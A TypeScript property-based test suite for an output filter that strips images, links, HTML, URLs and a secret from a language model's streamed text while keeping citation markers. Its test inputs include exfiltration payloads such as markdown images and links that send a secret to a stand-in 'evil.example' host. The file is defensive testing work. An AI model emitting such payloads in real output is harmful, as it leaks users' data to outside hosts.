/** What a model writes, however cut into pieces, comes out with its markers found and nothing that a renderer would load or follow. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createOutputFilter, type FilteredPiece } from "./output-filter.ts";

const SECRET = "5ec2e7c0ffee5ec2e7";
const SOURCE_URL = "https://docs.example/guide?page=2";

function filterPieces(pieces: readonly string[]): FilteredPiece[] {
  const filter = createOutputFilter({ secret: SECRET, allowedUrls: new Set([SOURCE_URL]) });
  return [...pieces.flatMap((piece) => filter.push(piece)), ...filter.finish()];
}

/** The text, with markers as they would be sent if all their numbers were valid. */
function shown(pieces: readonly string[]): string {
  return filterPieces(pieces)
    .map((piece) => (piece.kind === "text" ? piece.text : piece.numbers.map((number) => `[${number}]`).join("")))
    .join("");
}

const markers = (text: string): number[] => filterPieces([text]).flatMap((piece) => (piece.kind === "markers" ? piece.numbers : []));

/** Text as an adversary would write it: fragments of every construct, in any order. */
const hostileText = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        ..."[ ] ( ) ! < > : / [1] [2, 3] ![ ]( ]: ][ <img <a </ <!-- http:// https://evil.example/?q= www.evil.example //evil data: javascript: \\ ` \n \" '".split(
          " ",
        ),
        " ",
        "\n",
        SECRET,
        SECRET.slice(0, 7),
        SECRET.slice(7),
        SECRET.toUpperCase(),
        SOURCE_URL,
      ),
      fc.string({ unit: "grapheme", maxLength: 8 }),
    ),
    { maxLength: 40 },
  )
  .map((parts) => parts.join(""));

const cut = (text: string, points: readonly number[]): string[] => {
  const at = [...new Set(points.map((point) => (text.length === 0 ? 0 : point % text.length)))].sort((left, right) => left - right);
  return [0, ...at].map((start, index, all) => text.slice(start, all[index + 1] ?? text.length));
};

describe("createOutputFilter", () => {
  it.each([
    ["plain prose", "Steep it for 3 minutes (or 4): it is fine!", "Steep it for 3 minutes (or 4): it is fine!"],
    ["an image", "See ![chart](https://evil.example/p.png?d=secret).", "See ! [chart]."],
    ["a link", "See [the page](https://evil.example/?d=secret).", "See [the page]."],
    ["a link with a title", 'See [the page](https://evil.example/ "t").', "See [the page]."],
    ["a link to a source", `See [the page](${SOURCE_URL}).`, `See [the page] (${SOURCE_URL}).`],
    ["a link over two lines", "See [it](\nhttps://evil.example/).", "See [it] (\n(link removed))."],
    ["a reference definition", "See [it][a].\n\n[a]: //evil.example/x", "See [it][a].\n\n[a] : //evil.example/x"],
    ["an address", "Go to https://evil.example/x?d=1, now.", "Go to (link removed), now."],
    ["an address without a scheme", "Go to www.evil.example/x?d=1 now.", "Go to (link removed) now."],
    ["the address of a source", `Go to ${SOURCE_URL}.`, `Go to ${SOURCE_URL}.`],
    ["more than the address of a source", `Go to ${SOURCE_URL}&d=secret now.`, "Go to (link removed) now."],
    ["an HTML image", '<img src="https://evil.example/x">', '< img src="(link removed)">'],
    ["an autolink", "<https://evil.example/x>", "<(link removed)>"],
    ["a comparison", "a < b, c<d", "a < b, c< d"],
    ["a destination after a marker", "So it is [1](https://evil.example/x).", "So it is [1]."],
    ["words in brackets after a marker", "So it is [1](see below).", "So it is [1] (see below)."],
    ["the secret", `It is ${SECRET}.`, "It is ."],
    ["the secret inside itself", `It is ${SECRET.slice(0, 5)}${SECRET}${SECRET.slice(5)}.`, "It is ."],
  ])("makes %s harmless", (_, text, expected) => {
    expect(shown([text])).toBe(expected);
    expect(shown([...text])).toBe(expected);
  });

  it.each([
    ["[1]", [1]],
    ["[1, 3]", [1, 3]],
    ["[1,2;4]", [1, 2, 4]],
    ["[2-4]", [2, 3, 4]],
    ["[1][2]", [1, 2]],
    ["[^1]", [1]],
    ["[Source 2]", [2]],
    ["[Sources 2 and 3]", [2, 3]],
    ["【1†source】", [1]],
    ["[0]", [0]],
    ["[1999-2003]", [1999, 2000, 2001, 2002, 2003]],
    ["[a]", []],
    ["[1 cup]", []],
    ["[]", []],
  ])("reads %s as the markers %j", (text, numbers) => {
    expect(markers(text)).toEqual(numbers);
    expect(shown([...text])).toBe(shown([text]));
  });

  it("lets text go as soon as it is certain", () => {
    const filter = createOutputFilter({ secret: SECRET, allowedUrls: new Set() });
    expect(filter.push("It is so")).toEqual([{ kind: "text", text: "It is" }]);
    expect(filter.push(" [")).toEqual([{ kind: "text", text: " so" }]);
    expect(filter.push("1")).toEqual([]);
    expect(filter.push("] and")).toEqual([
      { kind: "text", text: " " },
      { kind: "markers", numbers: [1] },
    ]);
  });

  it("keeps its promises for any text and any cut", () => {
    fc.assert(
      fc.property(hostileText, fc.array(fc.nat(1_000), { maxLength: 12 }), (text, points) => {
        const output = shown(cut(text, points));
        expect(output).not.toMatch(/\]\(|\]:|!\[|<[a-z/!?]/i);
        expect(output.toLowerCase()).not.toContain(SECRET);
        expect(output.replaceAll(SOURCE_URL, "")).not.toMatch(/https?:\/\/|www\.\S/i);
      }),
      { numRuns: 2_000 },
    );
  });

  it("gives the same text however it was cut", () => {
    fc.assert(
      fc.property(hostileText, fc.array(fc.nat(1_000), { maxLength: 12 }), (text, points) => {
        expect(shown(cut(text, points))).toBe(shown([text]));
      }),
      { numRuns: 1_000 },
    );
  });

  it("changes nothing in words, numbers and punctuation", () => {
    const harmless = fc
      .array(fc.constantFrom("word", "naïve", "3.14", "a-b", "(so)", "“quoted”", "Yes!", "x:", "7%", "漢字", "e.g.", "and/or"), { maxLength: 30 })
      .map((words) => words.join(" "));
    fc.assert(
      fc.property(harmless, fc.array(fc.nat(1_000), { maxLength: 8 }), (text, points) => {
        expect(shown(cut(text, points))).toBe(text);
      }),
    );
  });

  it("bounds what it holds back: neither an endless word nor an endless bracket stops the stream", () => {
    for (const beginning of ["a", "https://evil.example/", "[1, ", "](", "[x]("]) {
      const filter = createOutputFilter({ secret: SECRET, allowedUrls: new Set() });
      filter.push(beginning);
      let pieces = 0;
      for (let count = 0; count < 200; count += 1) pieces += filter.push("b".repeat(100)).length;
      expect(pieces).toBeGreaterThan(0);
    }
  });

  it("finds an address wherever it begins in an overlong word", () => {
    for (let length = 1_850; length <= 2_050; length += 1) {
      const word = `${"x".repeat(length - 1)}/https://evil.example/?q=1`;
      expect(shown([word]), String(length)).not.toContain("evil");
      expect(shown([word.slice(0, 1_990), word.slice(1_990)]), String(length)).not.toContain("evil");
    }
  });

  it("goes through a word of a million letters once", () => {
    const startedAt = performance.now();
    expect(shown(["x".repeat(1_000_000)])).toHaveLength(1_000_000);
    // A tenth of a second. Gone through anew for each part of it, it was 23 s.
    expect(performance.now() - startedAt).toBeLessThan(5_000);
  });

  it("finds the secret across the border of an overlong word", () => {
    for (let lead = 1_880; lead < 2_020; lead += 7) expect(shown(["a".repeat(lead) + SECRET + "b".repeat(3_000)])).not.toContain(SECRET);
  });
});
